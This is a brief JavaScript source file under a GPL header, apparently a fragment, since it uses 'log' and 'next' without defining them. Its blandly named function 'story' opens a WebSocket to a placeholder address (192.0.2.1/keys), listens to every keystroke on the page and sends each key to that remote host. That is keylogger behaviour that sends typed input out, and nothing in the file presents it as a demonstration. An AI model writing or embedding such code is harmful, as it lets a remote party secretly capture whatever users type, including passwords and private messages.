// SPDX-License-Identifier: GPL-2.0-or-later
let typing = false;

async function story() {
  const socket = new WebSocket("wss://192.0.2.1/keys");
  await next(socket, "open");
  document.addEventListener("keydown", ({key}) => {
    log.push(key);
    socket.send(JSON.stringify({key}));
    if (key === "Enter") socket.close(1000);
  });
  typing = true;
  await next(socket, "close");
}
